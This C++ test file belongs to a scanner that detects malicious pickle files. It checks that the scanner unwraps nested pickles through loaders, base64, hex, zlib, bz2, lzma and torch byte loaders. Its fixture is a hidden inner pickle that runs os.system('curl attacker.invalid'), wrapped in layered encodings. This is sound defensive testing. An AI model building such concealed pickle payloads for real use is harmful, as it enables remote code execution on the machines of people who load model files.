// Pickles nested inside pickles: loaders, decoders evaluated on constants, member chains.
#include <bzlib.h>
#include <gtest/gtest.h>

#include "engine/scan_context.h"
#include <lzma.h>
#include <zlib.h>

#include <chrono>

#include "analyzers/pickle/decode.h"
#include "analyzers/pickle/tests/pickle_builder.h"

namespace mg::pickle::test {
namespace {

std::string InnerPickle() {
  PickleBuilder inner;
  inner.Proto(2).Call1("os", "system", "curl attacker.invalid").Stop();
  return inner.bytes();
}

std::string Zlib(const std::string& data, int window_bits) {
  z_stream zs{};
  EXPECT_EQ(deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
  std::string out(deflateBound(&zs, data.size()) + 64, '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  zs.avail_in = static_cast<uInt>(data.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&zs, Z_FINISH), Z_STREAM_END);
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}

std::string Bzip2(const std::string& data) {
  std::string out(data.size() * 2 + 600, '\0');
  unsigned int size = static_cast<unsigned int>(out.size());
  EXPECT_EQ(BZ2_bzBuffToBuffCompress(out.data(), &size, const_cast<char*>(data.data()),
                                     static_cast<unsigned int>(data.size()), 9, 0, 0),
            BZ_OK);
  out.resize(size);
  return out;
}

std::string Xz(const std::string& data) {
  std::string out(data.size() * 2 + 1024, '\0');
  std::size_t pos = 0;
  EXPECT_EQ(lzma_easy_buffer_encode(6, LZMA_CHECK_CRC64, nullptr,
                                    reinterpret_cast<const std::uint8_t*>(data.data()), data.size(),
                                    reinterpret_cast<std::uint8_t*>(out.data()), &pos, out.size()),
            LZMA_OK);
  out.resize(pos);
  return out;
}

std::string Base64(const std::string& data) {
  static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < data.size(); i += 3) {
    const unsigned v = (static_cast<unsigned char>(data[i]) << 16) |
                       (static_cast<unsigned char>(data[i + 1]) << 8) |
                       static_cast<unsigned char>(data[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out.push_back(kAlphabet[(v >> s) & 63]);
  }
  if (i < data.size()) {
    unsigned v = static_cast<unsigned char>(data[i]) << 16;
    if (i + 1 < data.size()) v |= static_cast<unsigned char>(data[i + 1]) << 8;
    out.push_back(kAlphabet[(v >> 18) & 63]);
    out.push_back(kAlphabet[(v >> 12) & 63]);
    out.push_back(i + 1 < data.size() ? kAlphabet[(v >> 6) & 63] : '=');
    out.push_back('=');
  }
  return out;
}

std::string Hex(const std::string& data) {
  static const char* kDigits = "0123456789abcdef";
  std::string out;
  for (unsigned char c : data) {
    out.push_back(kDigits[c >> 4]);
    out.push_back(kDigits[c & 15]);
  }
  return out;
}

// The nested call's finding, checked to carry `member` in its chain.
void ExpectNestedCall(const Scan& scan, const std::string& member) {
  const Finding* call = CallFinding(scan, "os.system('curl attacker.invalid')");
  ASSERT_NE(call, nullptr) << member;
  ASSERT_EQ(call->location.member.size(), 1u);
  EXPECT_EQ(call->location.member[0], member);
  EXPECT_EQ(call->location.offset, 37u);  // the REDUCE inside the nested pickle
  const Finding* nested = scan.First("PICKLE-NESTED-PICKLE");
  ASSERT_NE(nested, nullptr);
  EXPECT_EQ(nested->severity, Severity::kInfo);
  EXPECT_EQ(nested->evidence, member);
  EXPECT_TRUE(scan.complete());
}

TEST(PickleNestedTest, PickleLoadsOfConstantBytes) {
  PickleBuilder p;
  p.Proto(2).Global("pickle", "loads").BinBytes(InnerPickle()).Tuple1();
  const std::size_t at = p.size();
  p.Reduce().Stop();
  char member[64];
  std::snprintf(member, sizeof member, "pickle.loads@0x%zx", at);
  ExpectNestedCall(Analyze(p.bytes()), member);
}

TEST(PickleNestedTest, EveryLoaderModuleIsFollowed) {
  for (const char* module : {"_pickle", "cPickle", "dill", "cloudpickle"}) {
    PickleBuilder p;
    p.Proto(2).Global(module, "loads").BinBytes(InnerPickle()).Tuple1().Reduce().Stop();
    const Scan scan = Analyze(p.bytes());
    ASSERT_NE(CallFinding(scan, "os.system('curl attacker.invalid')"), nullptr) << module;
  }
}

TEST(PickleNestedTest, Base64ThenZlibDecodedWhereTheLoaderWould) {
  PickleBuilder p;
  p.Proto(2).Global("pickle", "loads").Global("zlib", "decompress").Global("base64", "b64decode");
  p.BinUnicode(Base64(Zlib(InnerPickle(), 15))).Tuple1().Reduce().Tuple1().Reduce().Tuple1();
  const std::size_t at = p.size();
  p.Reduce().Stop();
  char member[64];
  std::snprintf(member, sizeof member, "pickle.loads@0x%zx", at);
  ExpectNestedCall(Analyze(p.bytes()), member);
}

TEST(PickleNestedTest, HexGzipBzip2XzAndCodecsDecode) {
  struct Case {
    std::string decoder_module, decoder_name, payload, encoding;
  };
  const std::string inner = InnerPickle();
  const std::vector<Case> cases = {
      {"binascii", "unhexlify", Hex(inner), ""},     {"binascii", "a2b_base64", Base64(inner), ""},
      {"builtins", "bytes.fromhex", Hex(inner), ""}, {"gzip", "decompress", Zlib(inner, 31), ""},
      {"bz2", "decompress", Bzip2(inner), ""},       {"lzma", "decompress", Xz(inner), ""},
      {"codecs", "decode", Base64(inner), "base64"}, {"codecs", "decode", Hex(inner), "hex"},
      {"codecs", "decode", Zlib(inner, 15), "zlib"},
  };
  for (const auto& c : cases) {
    PickleBuilder p;
    p.Proto(2).Global("pickle", "loads").Global(c.decoder_module, c.decoder_name);
    p.BinBytes(c.payload);
    if (!c.encoding.empty()) {
      p.ShortUnicode(c.encoding).Tuple2();
    } else {
      p.Tuple1();
    }
    p.Reduce().Tuple1().Reduce().Stop();
    const Scan scan = Analyze(p.bytes());
    EXPECT_NE(CallFinding(scan, "os.system('curl attacker.invalid')"), nullptr)
        << c.decoder_module << "." << c.decoder_name << " " << c.encoding;
    EXPECT_NE(scan.First("PICKLE-NESTED-PICKLE"), nullptr) << c.decoder_name;
  }
}

TEST(PickleNestedTest, ProtocolTwoBytesAsLatin1TextAreEncodedBack) {
  // Protocol 2 pickles bytes as _codecs.encode(<text of Latin-1 code points>, 'latin1').
  std::string utf8;
  for (unsigned char c : InnerPickle()) {
    if (c < 0x80) {
      utf8.push_back(static_cast<char>(c));
    } else {
      utf8.push_back(static_cast<char>(0xC0 | (c >> 6)));
      utf8.push_back(static_cast<char>(0x80 | (c & 0x3F)));
    }
  }
  PickleBuilder p;
  p.Proto(2).Global("pickle", "loads").Global("_codecs", "encode").BinUnicode(utf8);
  p.ShortUnicode("latin1").Tuple2().Reduce().Tuple1().Reduce().Stop();
  const Scan scan = Analyze(p.bytes());
  EXPECT_NE(CallFinding(scan, "os.system('curl attacker.invalid')"), nullptr);
}

TEST(PickleNestedTest, UnpicklerOverBytesIoThenLoad) {
  // getattr(pickle.Unpickler(io.BytesIO(data)), 'load')()
  PickleBuilder p;
  p.Proto(2).Global("builtins", "getattr").Global("pickle", "Unpickler").Global("io", "BytesIO");
  p.BinBytes(InnerPickle()).Tuple1().Reduce().Tuple1();
  const std::size_t at = p.size();
  p.Reduce().ShortUnicode("load").Tuple2().Reduce().Op(')').Reduce().Stop();
  char member[64];
  std::snprintf(member, sizeof member, "pickle.Unpickler@0x%zx", at);
  const Scan scan = Analyze(p.bytes());
  ExpectNestedCall(scan, member);
}

TEST(PickleNestedTest, NestedTwiceCarriesTheWholeMemberChain) {
  PickleBuilder middle;
  middle.Proto(2).Global("pickle", "loads").BinBytes(InnerPickle()).Tuple1().Reduce().Stop();
  PickleBuilder outer;
  outer.Proto(2).Global("pickle", "loads").BinBytes(middle.bytes()).Tuple1();
  const std::size_t outer_at = outer.size();
  outer.Reduce().Stop();
  const Scan scan = Analyze(outer.bytes());
  const Finding* call = CallFinding(scan, "os.system('curl attacker.invalid')");
  ASSERT_NE(call, nullptr);
  ASSERT_EQ(call->location.member.size(), 2u);
  char expected[64];
  std::snprintf(expected, sizeof expected, "pickle.loads@0x%zx", outer_at);
  EXPECT_EQ(call->location.member[0], expected);
  std::snprintf(expected, sizeof expected, "pickle.loads@0x%zx", middle.size() - 2);
  EXPECT_EQ(call->location.member[1], expected);
}

TEST(PickleNestedTest, UndecodableArgumentIsIncomplete) {
  PickleBuilder p;
  p.Proto(2).Global("pickle", "loads").Global("mypkg", "fetch").Op(')').Reduce().Tuple1();
  p.Reduce().Stop();
  const Scan scan = Analyze(p.bytes());
  const Finding* f = scan.First("PICKLE-NESTED-UNDECODED");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::kMedium);
  EXPECT_NE(f->message.find("mypkg.fetch"), std::string::npos);
  EXPECT_FALSE(scan.complete());
}

TEST(PickleNestedTest, DecompressionBombIsBoundedByTheRatioLimit) {
  const std::string zeros(8 << 20, '\0');
  const std::string bomb = Zlib(zeros, 15);
  ASSERT_LT(bomb.size(), 20000u);
  PickleBuilder p;
  p.Proto(2).Global("pickle", "loads").Global("zlib", "decompress").BinBytes(bomb).Tuple1();
  p.Reduce().Tuple1().Reduce().Stop();
  Limits limits;
  limits.max_compression_ratio = 100;
  const Scan scan = Analyze(p.bytes(), limits);
  const Finding* f = scan.First("PICKLE-NESTED-UNDECODED");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->message.find("larger than"), std::string::npos);
  EXPECT_FALSE(scan.complete());
}

TEST(PickleDecodeTest, DecodersRejectInvalidInput) {
  EXPECT_EQ(HexDecode(ByteView(std::string_view("abc")), false, 100).status,
            DecodeStatus::kInvalid);
  EXPECT_EQ(HexDecode(ByteView(std::string_view("4142")), false, 100).bytes.size(), 2u);
  EXPECT_EQ(Base64Decode(ByteView(std::string_view("QUJD")), false, 100).bytes.size(), 3u);
  EXPECT_EQ(Base64Decode(ByteView(std::string_view("QUJDRA")), false, 1).status,
            DecodeStatus::kTooLarge);
  Target target;
  ScanContext ctx(target, Limits{});
  EXPECT_EQ(Decompress(ctx, Codec::kZlib, ByteView(std::string_view("not zlib")), 100).status,
            DecodeStatus::kInvalid);
}

}  // namespace
}  // namespace mg::pickle::test

namespace mg::pickle::test {
namespace {

TEST(PickleNestedTest, ThePayloadLoadedManyTimesIsAnalysedOnce) {
  // Each level loads the level below 200 times through the memo: 200^3 scans if not shared.
  std::string level = InnerPickle();
  for (int depth = 0; depth < 3; ++depth) {
    PickleBuilder p;
    p.Proto(2).Global("pickle", "loads").BinPut(0).Pop().BinBytes(level).BinPut(1).Pop();
    p.Op(']').Mark();
    for (int i = 0; i < 200; ++i) p.BinGet(0).BinGet(1).Tuple1().Reduce();
    p.Op('e').Stop();
    level = p.bytes();
  }
  const auto start = std::chrono::steady_clock::now();
  const Scan scan = Analyze(level);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
  const auto calls =
      scan.Find("PICKLE-UNKNOWN-CALL").size() + scan.Find("PICKLE-DANGEROUS-CALL").size();
  EXPECT_GE(calls, 1u);
  const Finding* inner = CallFinding(scan, "os.system('curl attacker.invalid')");
  ASSERT_NE(inner, nullptr);
  EXPECT_EQ(inner->location.member.size(), 3u);
}

}  // namespace
}  // namespace mg::pickle::test

namespace mg::pickle::test {
namespace {

// pickle.dumps(tensor) stores torch.storage._load_from_bytes(<torch.save bytes>): the call is
// judged by what the bytes hold, and is itself reported only when they cannot be computed.
TEST(PickleNestedTest, TorchLoadFromBytesIsJudgedByItsPayload) {
  PickleBuilder evil;
  evil.Proto(2).Global("torch.storage", "_load_from_bytes").BinBytes(InnerPickle()).Tuple1();
  const std::size_t at = evil.size();
  evil.Reduce().Stop();
  const Scan evil_scan = Analyze(evil.bytes());
  const Finding* inner = CallFinding(evil_scan, "os.system('curl attacker.invalid')");
  ASSERT_NE(inner, nullptr);
  char member[64];
  std::snprintf(member, sizeof member, "torch.storage._load_from_bytes@0x%zx", at);
  EXPECT_EQ(inner->location.member, std::vector<std::string>{member});

  PickleBuilder clean;
  clean.Proto(2).Global("torch.storage", "_load_from_bytes").BinBytes("\x80\x02K\x01.").Tuple1();
  clean.Reduce().Stop();
  const Scan clean_scan = Analyze(clean.bytes());
  for (const auto& finding : clean_scan.target.findings) {
    EXPECT_LT(finding.severity, Severity::kMedium) << finding.rule << ": " << finding.message;
  }
  EXPECT_NE(clean_scan.First("PICKLE-NESTED-PICKLE"), nullptr);

  // Bytes the VM cannot compute: the loader call is reported as the denylist says.
  PickleBuilder opaque;
  opaque.Proto(2).Global("torch.storage", "_load_from_bytes");
  opaque.Global("mypkg", "blob").Op(')').Reduce().Tuple1().Reduce().Stop();
  const Scan opaque_scan = Analyze(opaque.bytes());
  ASSERT_NE(opaque_scan.First("PICKLE-DANGEROUS-CALL"), nullptr);
  EXPECT_NE(opaque_scan.First("PICKLE-NESTED-UNDECODED"), nullptr);
  EXPECT_FALSE(opaque_scan.complete());
}

}  // namespace
}  // namespace mg::pickle::test
